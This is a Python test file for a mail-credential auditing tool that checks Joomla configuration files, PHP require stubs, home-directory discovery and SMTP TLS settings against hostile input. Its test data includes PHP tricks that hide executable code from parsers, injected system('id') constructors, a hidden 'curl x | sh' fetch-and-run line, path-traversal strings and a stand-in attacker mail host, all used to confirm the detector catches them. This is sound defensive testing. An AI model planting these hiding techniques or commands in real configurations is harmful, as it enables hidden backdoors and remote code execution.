"""A hostile or broken server against the Joomla code finder, the require-stub reader, facts.sh's
home discovery and the system-mail controls.

Every hidden-code case is first shown to run under real PHP (as Joomla includes the file and
instantiates JConfig) and to be refused by smtpcheck's own PHP reader; the static finder
(``find_code``, the fallback where the host has no PHP) must then see it too. Each test here
was first written against a defect it found; the defects are fixed.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from smtpcheck.credentials.controls import HOST_CONTROLS, host_evidence
from smtpcheck.credentials.joomla import (
    find_code,
    parse_joomla_config,
    parse_php_output,
    require_target,
)
from smtpcheck.credentials.sources import expand
from smtpcheck.credentials.ssmtp import parse_ssmtp_conf
from smtpcheck.credentials.sysmail import parse_send_email
from smtpcheck.credentials.toolkit import parse_application_dat, parse_settings_dat
from smtpcheck.findings import Finding, Severity, Status
from smtpcheck.lab import seeds
from smtpcheck.lab.seeds import LabCredentials
from smtpcheck.remote.facts import FileFacts, HostFacts, HostObservation, PhpReading
from smtpcheck.settings import Expected
from smtpcheck.targets import App
from tests.unit.builders import (
    CATALOGUE,
    CREDS,
    PHP,
    evidence,
    expected_of,
    file_facts,
    needs_php,
    observed,
    php_json,
    run_facts,
    run_php_reader,
    target,
)

# ---------------------------------------------------------------------------------------------
# find_code: code PHP runs when Joomla loads the file

_CLASS = "class JConfig {\n\tpublic $smtphost = 'in-v3.mailjet.com';\n}\n"


def _runs_in_php(path: Path, *, short_tags: bool = False) -> subprocess.CompletedProcess[str]:
    """Load ``path`` as Joomla does: include it, then ``new JConfig``."""
    assert PHP is not None
    code = "include $argv[1]; if (class_exists('JConfig', false)) { new JConfig(); }"
    return subprocess.run(
        [PHP, "-n", "-d", f"short_open_tag={int(short_tags)}", "-r", code, "--", str(path)],
        capture_output=True,
        text=True,
        check=False,
        timeout=30,
    )


def _write(tmp_path: Path, text: str, name: str = "configuration.php") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode())
    return path


# name -> (template with {marker}, PHP needs short_open_tag=On, the trap it sets or None)
HIDDEN_CODE: dict[str, tuple[str, bool, str | None]] = {
    "attribute-hides-a-constructor": (
        "<?php\nclass JConfig {\n\tpublic $smtphost = 'h'; #[X] public function __construct() "
        "{ touch('{marker}'); }\n}\n",
        False,
        "code after '#[': PHP 8 reads #[ as an attribute, not a comment",
    ),
    "attribute-hides-code-before-the-class": (
        "<?php\n#[X] function f() {} touch('{marker}');\n" + _CLASS,
        False,
        "code after '#[' before the class",
    ),
    "line-comment-ends-at-close-tag": (
        "<?php\nclass JConfig { public $smtphost = 'h'; } // ?><?php touch('{marker}');\n",
        False,
        "code after '// ?>': PHP ends a line comment at ?>",
    ),
    "hash-comment-ends-at-close-tag": (
        "<?php\nclass JConfig { public $smtphost = 'h'; } # ?><?php touch('{marker}');\n",
        False,
        "code after '# ?>'",
    ),
    "line-comment-ends-at-cr": (
        "<?php\rclass JConfig { public $smtphost = 'h'; } //\rtouch('{marker}');\r",
        False,
        "code after a comment ended by a bare CR (PHP ends // comments at \\r)",
    ),
    "cr-comment-hides-a-constructor": (
        "<?php\rclass JConfig { public $smtphost = 'h'; //\r"
        "public function __construct() { touch('{marker}'); } }\r",
        False,
        "a constructor after a CR-ended comment (and never checks that the class closed)",
    ),
    "upper-case-open-tag": (
        "<?PHP\nclass JConfig { public $smtphost = 'h'; "
        "public function __construct() { touch('{marker}'); } }\n",
        False,
        "everything after <?PHP: the open tag is case-insensitive",
    ),
    "echo-tag-before-the-class": (
        "<?= touch('{marker}') ?><?php\n" + _CLASS,
        False,
        "<?= ... ?> before <?php (the file 'does not start with <?php' but PHP runs it)",
    ),
    "html-then-code": (
        "x<?php touch('{marker}');\n" + _CLASS,
        False,
        "code after leading inline text",
    ),
    "short-open-tag": (
        "<? touch('{marker}'); ?><?php\n" + _CLASS,
        True,
        "<? ... ?> where short_open_tag is On (PHP's built-in default)",
    ),
    "nowdoc-quote-swallows-a-constructor": (
        "<?php\nclass JConfig {\n\tpublic $a = <<<'EOT'\n'\nEOT;\n"
        "\tpublic function __construct() { touch(\"{marker}\"); }\n\tpublic $b = '\n';\n}\n",
        False,
        "a constructor after a nowdoc holding a quote (nowdoc is not a string to it)",
    ),
    "heredoc-quote-swallows-a-constructor": (
        '<?php\nclass JConfig {\n\tpublic $a = <<<EOT\n"\nEOT;\n'
        "\tpublic function __construct() { touch('{marker}'); }\n\tpublic $b = \"\n\";\n}\n",
        False,
        "a constructor after a heredoc holding a quote",
    ),
    # controls: the finder sees these
    "constructor-in-upper-case": (
        "<?php\nclass JConfig { public $smtphost = 'h'; "
        "PUBLIC FUNCTION __CONSTRUCT() { touch('{marker}'); } }\n",
        False,
        None,
    ),
    "second-class-with-a-destructor": (
        "<?php\n" + _CLASS + "class B { public function __destruct() { touch('{marker}'); } }\n"
        "new B();\n",
        False,
        None,
    ),
    "call-in-a-property-of-a-new-class": (
        "<?php\n"
        + _CLASS
        + "new class { public function __construct() { touch('{marker}'); } };\n",
        False,
        None,
    ),
    "code-after-close-and-reopen": (
        "<?php\n" + _CLASS + "?>\n<?php touch('{marker}');\n",
        False,
        None,
    ),
}


@needs_php
@pytest.mark.parametrize("name", HIDDEN_CODE.keys())
def test_hidden_code_runs_in_php_and_the_php_reader_refuses_it(tmp_path: Path, name: str) -> None:
    template, short_tags, _ = HIDDEN_CODE[name]
    marker = tmp_path / "ran"
    path = _write(tmp_path, template.replace("{marker}", str(marker)))

    _runs_in_php(path, short_tags=short_tags)
    assert marker.exists(), "precondition: PHP, loading the file as Joomla does, runs its code"
    marker.unlink()

    reading = php_json(path)
    assert not marker.exists(), "smtpcheck's PHP reader ran the file's code"
    assert reading is not None and str(reading.get("error", "")).startswith("not executed")
    result = parse_php_output(json.dumps(reading).encode())
    assert result is not None and result.refused and "values" not in reading


@pytest.mark.parametrize("name", HIDDEN_CODE.keys())
def test_find_code_sees_code_php_would_run(name: str) -> None:
    template, _, _ = HIDDEN_CODE[name]

    assert find_code(template.replace("{marker}", "/tmp/never")) is not None


def _cred_03_without_php(content: bytes) -> Finding:
    ev = evidence(App.JOOMLA, content, expected=expected_of(), run_php=False, mode=0o440)
    return HOST_CONTROLS["CRED-03"](ev)


def test_visible_constructor_fails_cred_03_as_critical() -> None:
    fixed = seeds.joomla_fixed(CREDS, host="in-v3.mailjet.com", port=587, secure="tls")
    content = fixed.replace(
        b"\tpublic $caching = 0;",
        b"\tpublic $caching = 0;\n\tpublic function __construct() { system('id'); }",
    )
    finding = _cred_03_without_php(content)

    assert finding.status is Status.FAIL and finding.severity is Severity.CRITICAL


def test_attribute_hidden_constructor_fails_cred_03_without_php() -> None:
    fixed = seeds.joomla_fixed(CREDS, host="in-v3.mailjet.com", port=587, secure="tls")
    content = fixed.replace(
        b"\tpublic $caching = 0;",
        b"\tpublic $caching = 0; #[X] public function __construct() { system('id'); }",
    )
    finding = _cred_03_without_php(content)

    assert finding.status is Status.FAIL and finding.severity is Severity.CRITICAL


# --- find_code false positives: plain configurations -----------------------------------------

PLAIN_BODIES = {
    "code-words-in-strings": (
        "\tpublic $a = 'function x() { y(); } ; {';\n\tpublic $b = \"new \\$x; `id` }\";\n"
        "\tpublic $c = '?>';\n\tpublic $d = '# no';\n\tpublic $e = 'http://x//y';\n"
        "\tpublic $f = \"it's {\";\n\tpublic $g = 'C:\\\\';\n"
    ),
    "code-in-comments": (
        "\t// public function __construct() { system('x'); }\n\t/* require('/x'); } */\n"
        "\t# touch('x'); {\n\t/** @var string */\n\tpublic $a = 1; // trailing ; { }\n"
    ),
    "arrays": (
        "\tpublic $a = array('x' => 1, 'y' => array(2, 3));\n"
        "\tpublic $b = ['a' => 'b', 'c' => [1, 2]];\n\tpublic $c = ARRAY(1);\n"
    ),
    "constant-expressions": (
        "\tpublic $a = 'x' . PHP_EOL;\n\tpublic $b = -1;\n\tpublic $c = TRUE;\n"
        "\tpublic $d = null;\n\tpublic $e = 0x1F + 2;\n"
    ),
    "no-default-and-var": "\tpublic $a;\n\tvar $b = 'v';\n",
    "typed": "\tpublic string $a = 'x';\n\tpublic ?int $b = null;\n",
    "crlf-lines": "\tpublic $a = 1; // note\r\n\tpublic $b = 'x';\r\n",
}


@pytest.mark.parametrize("name", PLAIN_BODIES.keys())
def test_plain_configuration_has_no_code(tmp_path: Path, name: str) -> None:
    text = "<?php\nclass JConfig {\n" + PLAIN_BODIES[name] + "}\n"

    assert find_code(text) is None
    if PHP is not None:  # and it is a file PHP loads
        assert _runs_in_php(_write(tmp_path, text)).returncode == 0


@pytest.mark.parametrize(
    "content",
    [
        seeds.joomla_gen_a(CREDS),
        seeds.joomla_gen_b(CREDS),
        seeds.joomla_gen_c_dev(CREDS),
        seeds.joomla_gen_c_main(CREDS),
        seeds.joomla_gen_c_main_baseline(),
        seeds.joomla_smtp_port_misnamed(CREDS),
        seeds.joomla_fixed(CREDS, host="h", port=587, secure="tls"),
        seeds.joomla_fixed(CREDS, host="h", port=587, secure="tls") + b"?>\n",
    ],
    ids=["A", "B", "C-dev", "C-main", "baseline", "smtp_port", "fixed", "fixed-closed"],
)
def test_toolkit_generations_have_no_code(content: bytes) -> None:
    assert find_code(content.decode()) is None


def test_several_properties_in_one_declaration_are_not_code() -> None:
    assert find_code("<?php\nclass JConfig {\n\tpublic $a = 1, $b = 2;\n}\n") is None


# --- the PHP reader validates only its first MiB ---------------------------------------------

_MIB = 1 << 20


def _big_file(marker: Path) -> str:
    """A clean class, then a MiB of blanks, then code: the reader validates the first MiB."""
    return "<?php\n" + _CLASS + " " * _MIB + f"touch('{marker}');\n"


@needs_php
def test_php_runs_code_after_the_first_mib(tmp_path: Path) -> None:
    marker = tmp_path / "ran"

    _runs_in_php(_write(tmp_path, _big_file(marker)))

    assert marker.exists()


@needs_php
def test_php_reader_refuses_a_file_larger_than_what_it_validates(tmp_path: Path) -> None:
    marker = tmp_path / "ran"

    reading = php_json(_write(tmp_path, _big_file(marker)))

    assert not marker.exists()
    assert reading is not None and "values" not in reading


@needs_php
def test_large_file_with_trailing_code_fails_cred_03(tmp_path: Path) -> None:
    text = _big_file(tmp_path / "ran")
    path = _write(tmp_path, text)
    status, stdout = run_php_reader(path)
    php = PhpReading(True, status, stdout)
    ev = evidence(App.JOOMLA, text.encode(), expected=expected_of(), run_php=True, php=php)

    finding = HOST_CONTROLS["CRED-03"](ev)

    assert finding.status is Status.FAIL and finding.severity is Severity.CRITICAL


# ---------------------------------------------------------------------------------------------
# require_target

REAL = "/var/www/outside_webroot/configuration.php"


@pytest.mark.parametrize(
    "text",
    [
        f"<?php\nrequire('{REAL}');\n",
        f'<?php require_once "{REAL}";',
        f"<?php\ninclude '{REAL}';\n?>\n",
        f"<?php /* the real one */ require ( '{REAL}' ) ; // moved\n",
        f"<?PHP REQUIRE_ONCE('{REAL}');",
    ],
)
def test_require_target_reads_a_stub(text: str) -> None:
    assert require_target(text) == REAL


@pytest.mark.parametrize(
    "text",
    [
        "<?php require('/var/www/html/../../etc/shadow');",
        "<?php require('/var/www/..');",
        "<?php require('configuration.php');",
        "<?php require('./configuration.php');",
        "<?php require('/var/www/a\nb');",
        "<?php require('/var/www/a\tb');",
        "<?php require('/var/www/a\x7fb');",
        "<?php require('/var/www/a\x1b[31m');",
        '<?php require("/var/www/\\x2e\\x2e/etc/shadow");',
        '<?php require("/var/www/$dir/configuration.php");',
        f"<?php require('{REAL}'); touch('/tmp/x');",
        f"<?php touch('/tmp/x'); require('{REAL}');",
        f"<?php require('{REAL}') or die('x');",
        f"<?php require('{REAL}' . '.bak');",
        f"<?php require('{REAL}'); require('/etc/x');",
        f"<?php require('{REAL}'); ?>html",
        f"require('{REAL}');",
        f"<?php\nclass JConfig {{ public $x = 1; }}\nrequire('{REAL}');\n",
    ],
)
def test_require_target_refuses_anything_but_a_plain_stub(text: str) -> None:
    assert require_target(text) is None


HIDDEN_STUB_CODE = {
    "line-comment-ends-at-close-tag": "<?php require('{real}'); // ?><?php touch('{marker}');\n",
    "hash-comment-ends-at-close-tag": "<?php require('{real}'); # ?><?php touch('{marker}');\n",
    "comment-ends-at-cr": "<?php require('{real}'); //\rtouch('{marker}');\n",
    "attribute-before-the-require": (
        "<?php #[X] function f() {} touch('{marker}');\nrequire('{real}');\n"
    ),
}


def _stub_text(name: str, real: Path | str, marker: Path | str) -> str:
    return HIDDEN_STUB_CODE[name].replace("{real}", str(real)).replace("{marker}", str(marker))


@needs_php
@pytest.mark.parametrize("name", HIDDEN_STUB_CODE.keys())
def test_stub_with_hidden_code_runs_it_in_php(tmp_path: Path, name: str) -> None:
    real = _write(tmp_path, "<?php\n" + _CLASS, "real.php")
    marker = tmp_path / "ran"

    _runs_in_php(_write(tmp_path, _stub_text(name, real, marker)))

    assert marker.exists()


@pytest.mark.parametrize("name", HIDDEN_STUB_CODE.keys())
def test_require_target_refuses_a_stub_that_runs_code(name: str) -> None:
    assert require_target(_stub_text(name, REAL, "/tmp/never")) is None


def test_stub_with_hidden_code_fails_cred_03() -> None:
    stub = f"<?php require('{REAL}'); // ?><?php system('curl x | sh');\n".encode()
    fixed = seeds.joomla_fixed(CREDS, host="in-v3.mailjet.com", port=587, secure="tls")
    host = replace(target(App.JOOMLA), run_php=False)
    files = (
        file_facts("/var/www/html/configuration.php", stub, mode=0o440),
        file_facts(REAL, fixed, mode=0o440),
    )
    ev = host_evidence(observed(host, *files), expected_of(), CATALOGUE)

    finding = HOST_CONTROLS["CRED-03"](ev)

    assert finding.status is Status.FAIL and finding.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "path",
    ["/var/www/\x9b31mx", "/var/www/a\x85b", "/var/www/a\u2028b", "/var/www/\u202ephp.x"],
    ids=["C1-CSI", "C1-NEL", "line-separator", "bidi-override"],
)
def test_require_target_refuses_unprintable_paths(path: str) -> None:
    assert require_target(f"<?php require('{path}');") is None


# ---------------------------------------------------------------------------------------------
# No parser raises

_PHPISH = st.sampled_from(
    [
        *"<?php class JConfig{}();'\"\\$#/*\n\r\t =,.[]-+0x1e_?>`",
        *("<?php ", "class JConfig {", "public $smtppass = ", "array(", "<<<EOT\n", "EOT;"),
        *("require('/a');", "function ", "#[", "\\u{", "\\x4", "\\101", "0b", "0o", "1e9999"),
        *("-o tls=", "sendemail ", "-s ", "if ", "then", "fi", "<<", "mailhub=", "AuthPass="),
        *("EMAILPASSWORD:", "INDIVIDUAL_SETTING:smtppass=", "WEBROOT_DIRECTORY:", "\x85"),
        "\u2028",
    ]
)
# Any text, lone surrogates too (decode_content never hands one over, but nothing may crash).
_TEXT = st.one_of(
    st.text(),
    st.lists(_PHPISH, max_size=40).map("".join),
)
PARSERS: list[Callable[[str], object]] = [
    find_code,
    require_target,
    parse_joomla_config,
    parse_settings_dat,
    parse_application_dat,
    parse_send_email,
    parse_ssmtp_conf,
]


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(_TEXT)
def test_no_parser_raises_on_arbitrary_text(text: str) -> None:
    for parse in PARSERS:
        parse(text)


_DIGITS = "9" * 5000  # past Python's 4300-digit int() limit


def _sys_01_with_provider(code: str) -> Finding:
    home = f"/home/{seeds.SERVER_USER}"
    files = (
        file_facts(f"{home}/runtime/webserver_configuration_settings.dat",
                   f"EMAILPROVIDER:{code}\nEMAILUSERNAME:u\n".encode(), mode=0o660),
        file_facts(f"{home}/providerscripts/email/SendEmail.sh",
                   seeds.SEND_EMAIL_BALANCED.encode(), mode=0o750),
    )  # fmt: skip
    facts = HostFacts("web1", "root", 0, {f.path: f for f in files}, "root", homes=(home,))
    ev = host_evidence(HostObservation(target(App.WORDPRESS), facts), Expected(), CATALOGUE)
    return HOST_CONTROLS["SYS-01"](ev)


HUGE_NUMBERS: dict[str, Callable[[], object]] = {
    "joomla-integer-literal": lambda: parse_joomla_config(
        f"<?php\nclass JConfig {{\n\tpublic $caching = {_DIGITS};\n}}\n"
    ),
    "joomla-smtpport-string": lambda: evidence(
        App.JOOMLA, f"<?php\nclass JConfig {{\n\tpublic $smtpport = '{_DIGITS}';\n}}\n".encode()
    ),
    "ssmtp-remoteport": lambda: parse_ssmtp_conf(f"RemotePort={_DIGITS}\n"),
    "ssmtp-mailhub-port": lambda: parse_ssmtp_conf(f"mailhub=smtp-pulse.com:{_DIGITS}\n"),
    "sendemail-server-port": lambda: parse_send_email(f"sendemail -s smtp-pulse.com:{_DIGITS}\n"),
    "sendemail-provider-test": lambda: parse_send_email(
        f'if [ "${{EMAIL_PROVIDER}}" = "{_DIGITS}" ]\nthen\n\tsendemail -s h:25\nfi\n'
    ),
    "settings-emailprovider-in-sys-01": lambda: _sys_01_with_provider(_DIGITS),
    "labelled-port": lambda: evidence(App.WORDPRESS, f"PORT: {_DIGITS}\n".encode()),
}


@pytest.mark.parametrize("name", HUGE_NUMBERS.keys())
def test_huge_numbers_are_problems_not_crashes(name: str) -> None:
    HUGE_NUMBERS[name]()


@pytest.mark.parametrize(
    ("parse", "text"),
    [
        (parse_ssmtp_conf, "AuthPass=\ud800"),
        (parse_settings_dat, "EMAILPASSWORD:\ud800"),
        (parse_joomla_config, "<?php\nclass JConfig {\n\tpublic $smtppass = '\ud800';\n}\n"),
    ],
    ids=["ssmtp", "settings", "joomla"],
)
def test_lone_surrogate_in_a_password_does_not_raise(
    parse: Callable[[str], object], text: str
) -> None:
    parse(text)


# ---------------------------------------------------------------------------------------------
# facts.sh: toolkit homes from a hostile /home/homedir.dat


@pytest.fixture
def homedir_dat() -> Iterator[Callable[[str], None]]:
    """Write /home/homedir.dat (removed afterwards); skip where the machine has its own."""
    if not os.access("/home", os.W_OK):
        pytest.skip("needs a writable /home")
    path = Path("/home/homedir.dat")
    created = False

    def write(text: str) -> None:
        nonlocal created
        if not created:
            try:
                fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
            except FileExistsError:
                pytest.skip("this machine has a /home/homedir.dat of its own")
            os.close(fd)
            created = True
        path.write_text(text)

    try:
        yield write
    finally:
        if created:
            path.unlink(missing_ok=True)


@pytest.fixture
def tag_homes() -> Iterator[dict[str, Path]]:
    """/home/smtpchk<tag>, and two hostile names that share its prefix: one with a blank, one
    with a glob character. Each holds runtime/s.dat."""
    if not os.access("/home", os.W_OK):
        pytest.skip("needs a writable /home")
    base = f"smtpchk{secrets.token_hex(4)}"
    made = {"plain": Path("/home") / base, "blank": Path("/home") / f"{base} x",
            "glob": Path("/home") / f"{base}*"}  # fmt: skip
    try:
        for path in made.values():
            (path / "runtime").mkdir(parents=True)
            (path / "runtime" / "s.dat").write_bytes(b"EMAILUTIL:sendemail\n")
        yield made
    finally:
        for path in made.values():
            shutil.rmtree(path, ignore_errors=True)


def _probed_only_under_homes(facts: HostFacts, template: str) -> None:
    """Every probe of a ~/ path is where the Python side looks for it, and nowhere else."""
    assert set(facts.files) == set(expand(template, facts.homes))
    for home in facts.homes:
        assert home.startswith("/home/") and "/" not in home.removeprefix("/home/")


@pytest.mark.parametrize(
    "content",
    ["../etc\n", "/home/../etc\n", "..\n", ".\n", "/etc\n", "X/../../etc\n", "\n", "", "/home/\n"],
)
def test_homedir_dat_cannot_leave_home(homedir_dat: Callable[[str], None], content: str) -> None:
    homedir_dat(content)

    facts = run_facts(["~/passwd"])

    _probed_only_under_homes(facts, "~/passwd")
    assert "/etc/passwd" not in facts.files and not any(".." in p for p in facts.files)


@pytest.mark.parametrize("line_end", ["\n", "\r\n", ""])
def test_homedir_dat_names_a_home(
    homedir_dat: Callable[[str], None], tag_homes: dict[str, Path], line_end: str
) -> None:
    home = tag_homes["plain"]
    homedir_dat(f"{home}{line_end}junk\n" if line_end else home.name)

    facts = run_facts(["~/runtime/s.dat"])

    assert str(home) in facts.homes
    assert facts.files[f"{home}/runtime/s.dat"].exists
    _probed_only_under_homes(facts, "~/runtime/s.dat")


@pytest.mark.parametrize("which", ["blank", "glob"])
def test_hostile_home_name_is_refused_or_probed_whole(
    homedir_dat: Callable[[str], None], tag_homes: dict[str, Path], which: str
) -> None:
    homedir_dat(tag_homes[which].name + "\n")

    facts = run_facts(["~/runtime/s.dat"])

    _probed_only_under_homes(facts, "~/runtime/s.dat")


@pytest.mark.parametrize("server_user", ["../etc", "a/b", ".", "..", "/etc", "-d"])
def test_server_user_argument_cannot_leave_home(server_user: str) -> None:
    facts = run_facts(["~/passwd"], server_user=server_user)

    _probed_only_under_homes(facts, "~/passwd")


# ---------------------------------------------------------------------------------------------
# CRED-07, SYS-01, SYS-02 verdicts on hostile toolkit files

HOME = f"/home/{seeds.SERVER_USER}"
CANARY = "Cx9-canary:Q7/zp"
C = replace(CREDS, password=CANARY)  # provider 2, Mailjet


def _settings(c: LabCredentials = C, util: str = "sendemail") -> FileFacts:
    return file_facts(f"{HOME}/runtime/webserver_configuration_settings.dat",
                      seeds.settings_dat(c, util=util), mode=0o660)  # fmt: skip


def _script(text: str) -> FileFacts:
    return file_facts(f"{HOME}/providerscripts/email/SendEmail.sh", text.encode(), mode=0o750)


def _ssmtp(text: str, *, mode: int = 0o640, owner: str = "root", group: str = "mail") -> FileFacts:
    return file_facts("/etc/ssmtp/ssmtp.conf", text.encode(), mode=mode, owner=owner, group=group)


def _system_controls(*files: FileFacts) -> dict[str, Finding]:
    host = replace(target(App.WORDPRESS), run_php=False)
    facts = HostFacts("web1", "root", 0, {f.path: f for f in files}, "root", homes=(HOME,))
    ev = host_evidence(HostObservation(host, facts), expected_of(C), CATALOGUE)
    found = {cid: HOST_CONTROLS[cid](ev) for cid in ("CRED-06", "CRED-07", "SYS-01", "SYS-02")}
    shown = "".join(repr(finding.to_dict()) for finding in found.values())
    for part in (CANARY, *CANARY.replace(":", " ").replace("/", " ").split()):
        assert part not in shown
    return found


def _sendemail(options: str) -> str:
    return f"#!/bin/sh\n/usr/bin/sendemail {options} -f a@b -t c@d -xu u -xp ${{PASSWORD}}\n"


def test_settings_provider_differs_from_the_build() -> None:
    found = _system_controls(_settings(replace(C, provider=3)), _script(seeds.SEND_EMAIL_BALANCED))

    assert found["CRED-07"].status is Status.FAIL
    assert "provider" in found["CRED-07"].summary and "'3'" in found["CRED-07"].summary


@pytest.mark.parametrize(
    ("options", "status", "text"),
    [
        ("-o tls=yes -s in-v3.mailjet.com:465", Status.FAIL, "STARTTLS on port 465"),
        ("-o tls=YES -s email-smtp.eu-west-1.amazonaws.com:465", Status.FAIL, "port 465"),
        ("-o tls=auto -s in-v3.mailjet.com:587", Status.FAIL, "tls=auto"),
        ("-s in-v3.mailjet.com:587", Status.FAIL, "without TLS"),
        ("-o tls=no -s in-v3.mailjet.com:587", Status.FAIL, "without TLS"),
        ("-o tls=yes -s in-v3.mailjet.com:1025", Status.FAIL, "does not serve port 1025"),
        ("-o tls=yes -s mail.attacker.example:587", Status.WARN, "not a known provider"),
        ("-o tls=yes -s in-v3.mailjet.com:587", Status.PASS, "STARTTLS to in-v3.mailjet.com:587"),
    ],
)
def test_sendemail_tls_verdicts(options: str, status: Status, text: str) -> None:
    found = _system_controls(_settings(), _script(_sendemail(options)))

    assert found["SYS-01"].status is status, found["SYS-01"].summary
    assert text in found["SYS-01"].summary
    assert found["SYS-02"].status is Status.FAIL  # -xp on the command line


def test_sendemail_literal_password_stays_secret() -> None:
    script = f"#!/bin/sh\nsendemail -o tls=yes -s in-v3.mailjet.com:587 -xu u -xp '{CANARY}'\n"
    found = _system_controls(_settings(), _script(script))

    assert found["SYS-02"].status is Status.FAIL and "-xp" in found["SYS-02"].summary


_SSMTP = f"root=postmaster\nmailhub={{hub}}\nAuthUser={C.username}\nAuthPass={CANARY}\n{{tls}}\n"


@pytest.mark.parametrize(
    ("hub", "tls", "status", "text"),
    [
        ("in-v3.mailjet.com:587", "UseSTARTTLS=YES", Status.PASS, "STARTTLS"),
        ("in-v3.mailjet.com:587", "UseTLS=YES", Status.FAIL, "implicit TLS on port 587"),
        ("in-v3.mailjet.com:465", "UseTLS=YES", Status.PASS, "implicit TLS"),
        ("in-v3.mailjet.com:465", "UseSTARTTLS=YES", Status.FAIL, "STARTTLS on port 465"),
        ("in-v3.mailjet.com:587", "UseTLS=NO", Status.FAIL, "without TLS"),
        ("mail.attacker.example:587", "UseSTARTTLS=YES", Status.WARN, "not a known provider"),
        ("mail.attacker.example:587", "", Status.FAIL, "without TLS"),
    ],
)
def test_ssmtp_tls_verdicts(hub: str, tls: str, status: Status, text: str) -> None:
    conf = _ssmtp(_SSMTP.format(hub=hub, tls=tls))
    found = _system_controls(_settings(util="ssmtp"), _script(seeds.SEND_EMAIL_BALANCED), conf)

    assert found["SYS-01"].status is status, found["SYS-01"].summary
    assert text in found["SYS-01"].summary


@pytest.mark.parametrize(
    ("mode", "group", "status"),
    [
        (0o640, "mail", Status.PASS),
        (0o644, "mail", Status.FAIL),
        (0o604, "root", Status.FAIL),
        (0o642, "mail", Status.FAIL),
        (0o640, "www-data", Status.FAIL),
    ],
)
def test_ssmtp_conf_modes(mode: int, group: str, status: Status) -> None:
    conf = _ssmtp(_SSMTP.format(hub="in-v3.mailjet.com:587", tls="UseSTARTTLS=YES"),
                  mode=mode, group=group)  # fmt: skip
    found = _system_controls(_settings(util="ssmtp"), _script("#!/bin/sh\n"), conf)

    assert found["SYS-02"].status is status, found["SYS-02"].summary


@pytest.mark.parametrize("owner", ["www-data", "nobody"])
def test_ssmtp_conf_owned_by_another_user_fails(owner: str) -> None:
    conf = _ssmtp(_SSMTP.format(hub="in-v3.mailjet.com:587", tls="UseSTARTTLS=YES"),
                  mode=0o600, owner=owner)  # fmt: skip
    found = _system_controls(_settings(util="ssmtp"), _script("#!/bin/sh\n"), conf)

    assert found["SYS-02"].status is Status.FAIL
